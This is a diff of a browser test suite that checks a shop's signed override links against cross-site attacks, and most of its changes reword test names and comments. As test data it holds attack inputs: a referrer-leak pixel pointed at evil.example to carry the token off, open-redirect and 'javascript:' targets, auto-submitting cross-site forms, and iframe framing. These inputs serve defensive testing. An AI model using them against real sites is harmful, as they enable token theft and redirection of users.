@@ -27,17 +27,17 @@ beforeEach(async () => {
   tab = await browser.context.newPage();
 });
 
-/** Whose page attacks: another site's, a neighbour's, and a guest's within the shop. */
+/** The sites of the attacking pages: another site, a sibling host, and a page of the shop with a guest's HTML. */
 const ATTACKERS = [STRANGER, SIBLING, SHOP] as const;
 
-/** Opens a page with this HTML at one of them. */
+/** Opens a page with this HTML at one of these sites. */
 async function attack(from: string, html: string): Promise<void> {
   shop.site.guestbook = html;
   shop.strangers.pages.set("/guest", html);
   await tab.goto(`${from}/guest`);
 }
 
-/** Ways to lead somebody to an address, with or without a click. */
+/** Ways to send a visitor to an address, with or without a click. */
 const LEADING: Readonly<Record<string, (url: URL) => string>> = {
   location: (url) => script(`location = "${url}"`),
   refresh: (url) => `<meta http-equiv="refresh" content="0; url=${url}">`,
@@ -52,8 +52,8 @@ const toForm = (url: string): string =>
   `<form method="post" action="${url}"></form>${script("document.forms[0].submit()")}`;
 
 describe.each(ATTACKERS)("a page of %s", (from) => {
-  it("puts nothing into force by what nobody sees", async () => {
-    // Each asks for a page as well, by which is seen that it did ask.
+  it("puts nothing into force by requests that nobody sees", async () => {
+    // Each request has a twin to a witness page, which proves that the browser sent it.
     const witness = (name: string): string => `/witness-${name}`;
     const before = shop.site.seen.length;
     await attack(from, askByAll(() => link) + askByAll((name) => `${SHOP}${witness(name)}`));
@@ -64,7 +64,7 @@ describe.each(ATTACKERS)("a page of %s", (from) => {
   });
 
   it.each(Object.entries(LEADING))(
-    "that leads somebody to a link by a %s makes it ask",
+    "that sends a visitor to a link by %s gets a page that asks first",
     async (_name, make) => {
       await attack(from, make(new URL(link)));
       await tab.getByRole("button", { name: "Put it into force" }).waitFor();
@@ -72,14 +72,14 @@ describe.each(ATTACKERS)("a page of %s", (from) => {
     },
   );
 
-  it("that opens it in a window of its own makes it ask", async () => {
+  it("that opens the link in a new window gets a page that asks first", async () => {
     const opened = browser.context.waitForEvent("page");
     await attack(from, script(`open("${link}")`));
     await (await opened).getByRole("button", { name: "Put it into force" }).waitFor();
     expect(await hasOverride(browser.context)).toBe(false);
   });
 
-  it("cannot show its buttons in a frame", async () => {
+  it("cannot show the override pages in a frame", async () => {
     const pages = [links.page, link];
     await attack(from, pages.map((url) => `<iframe src="${url}"></iframe>`).join(""));
     const shown = (): readonly string[] => tab.frames().map((frame) => frame.url());
@@ -89,7 +89,7 @@ describe.each(ATTACKERS)("a page of %s", (from) => {
 });
 
 describe.each([STRANGER, SIBLING])("a form of %s", (from) => {
-  it("begins nothing, and ends nothing", async () => {
+  it("can neither start nor end an override", async () => {
     await attack(from, toForm(link));
     await tab.getByText("from this page alone").waitFor();
     expect(await hasOverride(browser.context)).toBe(false);
@@ -102,10 +102,10 @@ describe.each([STRANGER, SIBLING])("a form of %s", (from) => {
   });
 });
 
-describe("what is fetched before anybody asks for it", () => {
+describe("a link that is fetched ahead", () => {
   const EARLY = ["prefetch", "prerender"] as const;
 
-  it.each(EARLY)("%s puts nothing into force, and spoils nothing", async (how) => {
+  it.each(EARLY)("%s puts nothing into force, and the link still works afterwards", async (how) => {
     const urls = [link, `${SHOP}/witness-${how}`];
     const rules = JSON.stringify({ [how]: [{ urls, eagerness: "immediate" }] });
     const before = shop.site.seen.length;
@@ -125,21 +125,21 @@ describe("what is fetched before anybody asks for it", () => {
 });
 
 describe("the token", () => {
-  it("reaches neither the site, its scripts, nor anybody to whom its pages lead", async () => {
+  it("reaches neither the site, nor its scripts, nor the sites that its pages link to", async () => {
     const token = new URL(link).searchParams.get("token") ?? "";
     const before = { site: shop.site.seen.length, strangers: shop.strangers.seen.length };
-    const telling = '<meta name="referrer" content="unsafe-url"><img src="https://evil.example/pixel">';
+    const revealing = '<meta name="referrer" content="unsafe-url"><img src="https://evil.example/pixel">';
     const leading = await links.sign({ ai_search: "on" }, "/guest");
 
-    // Typed, and by way of the question, whose address stays in the tab's history.
+    // Opened by hand, and through the page that asks, whose address stays in the tab's history.
     for (const from of [undefined, STRANGER]) {
       await browser.context.clearCookies();
-      shop.site.guestbook = telling;
+      shop.site.guestbook = revealing;
       if (from === undefined) await tab.goto(leading);
       else {
         await attack(from, script(`location = "${leading}"`));
         await tab.getByRole("button").waitFor();
-        shop.site.guestbook = telling;
+        shop.site.guestbook = revealing;
         await tab.getByRole("button").click();
       }
       await tab.waitForURL(`${SHOP}/guest`);
@@ -163,7 +163,7 @@ describe("the token", () => {
     expect(shop.log).not.toContain("eyJ");
   });
 
-  it("is not used again by going back and forward, once it has been ended", async () => {
+  it("does not start an ended override again by going back and forward", async () => {
     await attack(STRANGER, `<a href="${link}">it</a>`);
     await tab.getByRole("link").click();
     await tab.getByRole("button", { name: "Put it into force" }).click();
@@ -171,7 +171,7 @@ describe("the token", () => {
     await tab.goto(links.page);
     await tab.getByRole("button", { name: "End it now" }).click();
     await tab.getByText("None is in force.").waitFor();
-    // The page, the question, the stranger's, and all the way again.
+    // Back to the page, to the page that asks and to the stranger's page, and forward again.
     for (const steps of [1, 1, 1, -1, -1, -1]) {
       await goBack(tab, steps);
       await tab.waitForFunction(() => document.readyState === "complete");
@@ -181,8 +181,8 @@ describe("the token", () => {
   });
 });
 
-describe("the way back", () => {
-  // What browsers and servers have taken for another host.
+describe("the target of a link", () => {
+  // Parts that browsers and servers have read as another host.
   const PARTS = [
     "/",
     "\\",
@@ -201,7 +201,7 @@ describe("the way back", () => {
     " ",
   ];
 
-  it("never leads elsewhere, by the browser's own reading", async () => {
+  it("never leads to another site, as the browser itself reads it", async () => {
     const targets = PARTS.flatMap((one) =>
       PARTS.flatMap((two) => PARTS.map((three) => `${one}${two}${three}evil.example`)),
     )
@@ -209,8 +209,8 @@ describe("the way back", () => {
       .flatMap((to) => readTarget(to) ?? []);
     expect(targets.length).toBeGreaterThan(1_000);
     await tab.goto(links.page);
-    const led = await tab.evaluate((all) => all.map((to) => new URL(to, location.href).origin), targets);
-    expect(new Set(led)).toEqual(new Set([SHOP]));
+    const origins = await tab.evaluate((all) => all.map((to) => new URL(to, location.href).origin), targets);
+    expect(new Set(origins)).toEqual(new Set([SHOP]));
   });
 
   it.each([
@@ -220,7 +220,7 @@ describe("the way back", () => {
     "/.//evil.example",
     "https://evil.example/",
     "javascript:alert(1)",
-  ])("a link that would lead to %j does nothing", async (to) => {
+  ])("a link to %j is refused and sets no cookie", async (to) => {
     const hostile = `${SHOP}${OVERRIDE_PATH}?token=${new URL(link).searchParams.get("token")}&to=${encodeURIComponent(to)}`;
     expect((await tab.goto(hostile))?.status()).toBe(400);
     expect(new URL(tab.url()).origin).toBe(SHOP);
